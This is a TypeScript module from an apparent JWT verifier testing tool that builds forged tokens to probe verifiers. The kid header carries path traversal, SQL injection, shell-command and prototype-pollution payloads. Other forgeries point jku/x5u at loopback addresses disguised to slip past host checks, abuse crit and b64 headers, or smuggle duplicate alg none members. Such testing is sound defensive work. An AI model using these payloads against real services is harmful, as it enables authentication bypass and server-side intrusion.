import { utf8 } from '../encoding/bytes.ts'
import { base64url } from '../encoding/base64url.ts'
import type { Json } from '../encoding/json.ts'
import { signingInput } from '../jose/sign.ts'
import type { Attack, Forgery, Material } from './attack.ts'
import { byAttacker, claimForgeries, needsSigningKey, resigned, signedTexts, signingKey, withSecret } from './forge.ts'

/** Milliseconds that the time-based injections try to make the verifier wait. */
const nap = 2000

export const kidInjection: Attack = {
  ruleId: 'JWT-26',
  name: 'kid-injection',
  forge: async (material) => {
    const { header } = material.valid
    const { mac } = await import('../guess/guess.ts')
    // Platforms refuse empty HMAC keys in Web Crypto; a file such as /dev/null is exactly that key.
    const empty = (kid: string): string => {
      const input = signingInput({ ...header, alg: 'HS256', kid }, material.claims)
      return `${input}.${base64url(mac(256, new Uint8Array(0), utf8(input)))}`
    }
    const files = ['../../../../../../dev/null', '/dev/null', '..\\..\\..\\nul', 'file:///dev/null']
    const known = async (kid: string, secret: string): Promise<string> => withSecret({ ...header, kid }, material.claims, utf8(secret))
    const shapes: readonly Json[] = ['__proto__', 'constructor', 'toString', { $ne: null }, ['a'], 0, true, 'k'.repeat(4096)]
    const naps = [
      `x' OR SLEEP(${nap / 1000}) -- `,
      `x'; SELECT pg_sleep(${nap / 1000}) -- `,
      `x|sleep ${nap / 1000}`,
      `$(sleep ${nap / 1000})`,
    ]
    return [
      ...files.map((kid): Forgery => ({ label: `kid "${kid}" with an empty HMAC key`, jwt: empty(kid), flaw: 'signature' })),
      {
        label: 'kid with an SQL UNION that supplies the key',
        jwt: await known(`x' UNION SELECT 'forged' -- `, 'forged'),
        flaw: 'signature',
      },
      ...(await Promise.all(
        shapes.map(async (kid): Promise<Forgery> => ({
          label: `kid ${JSON.stringify(kid).slice(0, 30)}`,
          jwt: await byAttacker(material, { kid }),
          flaw: 'signature',
        })),
      )),
      ...(await Promise.all(
        naps.map(async (kid): Promise<Forgery> => ({
          label: `kid "${kid}"`,
          jwt: await byAttacker(material, { kid }),
          flaw: 'signature',
          slowFrom: nap - 200,
        })),
      )),
    ]
  },
}

export const keyUrls: Attack = {
  ruleId: 'JWT-28',
  name: 'key-urls',
  forge: async (material) => {
    const { canary } = material
    if (canary === undefined) return { skipped: 'needs a local listener, which this platform does not have' }
    const variants = [...plainUrls(canary.url), ...disguised(canary.url, material)]
    return Promise.all(
      variants.map(async ({ name, url, path, how }): Promise<Forgery> => ({
        label: `${name} ${how}`,
        jwt: await byAttacker(material, { [name]: url, kid: 'attacker' }),
        flaw: 'signature',
        canaryPath: path,
      })),
    )
  },
}

type UrlVariant = { readonly name: string; readonly url: string; readonly path: string; readonly how: string }

function plainUrls(base: string): readonly UrlVariant[] {
  return [
    { name: 'jku', url: `${base}/jku`, path: '/jku', how: 'at an address of the attacker' },
    { name: 'x5u', url: `${base}/x5u`, path: '/x5u', how: 'at an address of the attacker' },
    { name: 'jku', url: `${base}/redirect`, path: '/redirect', how: 'that redirects' },
  ]
}

/** Ways around a check of the host name: each URL names the trusted host somewhere, and leads to the canary. */
function disguised(base: string, { claims }: Material): readonly UrlVariant[] {
  const { port } = new URL(base)
  const iss = typeof claims['iss'] === 'string' && URL.canParse(claims['iss']) ? new URL(claims['iss']).host : 'issuer.example'
  return [
    { name: 'jku', url: `http://${iss}@127.0.0.1:${port}/userinfo`, path: '/userinfo', how: 'with the trusted host as user information' },
    { name: 'jku', url: `${base}/fragment#${iss}`, path: '/fragment', how: 'with the trusted host in the fragment' },
    { name: 'jku', url: `${base}/query?https://${iss}/`, path: '/query', how: 'with the trusted host in the query' },
    { name: 'jku', url: `http://2130706433:${port}/decimal`, path: '/decimal', how: 'with an address as one number' },
    { name: 'jku', url: `http://0x7f.1:${port}/hex`, path: '/hex', how: 'with an address in hexadecimal' },
  ]
}

export const criticalHeader: Attack = {
  ruleId: 'JWT-31',
  name: 'critical-header',
  forge: (material) =>
    claimForgeries(material, [
      { label: 'an unknown critical header', header: { crit: ['x-cloakroom-probe'], 'x-cloakroom-probe': true } },
      { label: 'a critical header that is not there', header: { crit: ['x-cloakroom-probe'] } },
      { label: 'an empty crit list', header: { crit: [] }, severity: 'warning' },
      { label: 'crit that lists alg', header: { crit: ['alg'] }, severity: 'warning' },
      { label: 'crit that is no list', header: { crit: 'b64' }, severity: 'warning' },
    ]),
}

export const unencodedPayload: Attack = {
  ruleId: 'JWT-32',
  name: 'unencoded-payload',
  forge: (material) =>
    claimForgeries(material, [
      { label: 'b64 false with crit', header: { b64: false, crit: ['b64'] } },
      // Without crit an old verifier may ignore b64 (RFC 7797 §6), so this is looseness rather than a forgery.
      { label: 'b64 false without crit', header: { b64: false }, severity: 'warning' },
    ]),
}

export const duplicateMembers: Attack = {
  ruleId: 'JWT-39',
  name: 'duplicate-members',
  forge: async (material) => {
    if (signingKey(material) === undefined) return needsSigningKey
    const header = JSON.stringify(material.valid.header)
    const claims = JSON.stringify(material.claims)
    const twice = (text: string, member: string): string => `{${member},${text.slice(1)}`
    const severity = 'warning'
    return [
      {
        label: 'a header with two alg members',
        jwt: await signedTexts(material, twice(header, '"alg":"none"'), utf8(claims)),
        flaw: 'form',
        severity,
      },
      {
        label: 'claims with two sub members',
        jwt: await signedTexts(material, header, utf8(twice(claims, '"sub":"forged-by-jwt-check"'))),
        flaw: 'form',
        severity,
      },
      {
        label: 'claims with a byte order mark',
        jwt: await signedTexts(material, header, Uint8Array.of(0xef, 0xbb, 0xbf, ...utf8(claims))),
        flaw: 'form',
        severity,
      },
      {
        label: 'claims that are not UTF-8',
        jwt: await signedTexts(material, header, Uint8Array.of(...utf8(`${claims.slice(0, -1)},"x":"`), 0xff, ...utf8('"}'))),
        flaw: 'form',
        severity,
      },
    ]
  },
}

export const boundWithoutProof: Attack = {
  ruleId: 'JWT-51',
  name: 'bound-without-proof',
  forge: async (material) => {
    if (material.profile.selfKeyed) return { skipped: 'a proof has no cnf' }
    if (signingKey(material) === undefined) return needsSigningKey
    const jkt = base64url(crypto.getRandomValues(new Uint8Array(32)))
    return [
      { label: 'a token bound to a DPoP key, without proof', jwt: await resigned(material, { claims: { cnf: { jkt } } }), flaw: 'claims' },
      {
        label: 'a token bound to a certificate, without it',
        jwt: await resigned(material, { claims: { cnf: { 'x5t#S256': jkt } } }),
        flaw: 'claims',
      },
    ]
  },
}
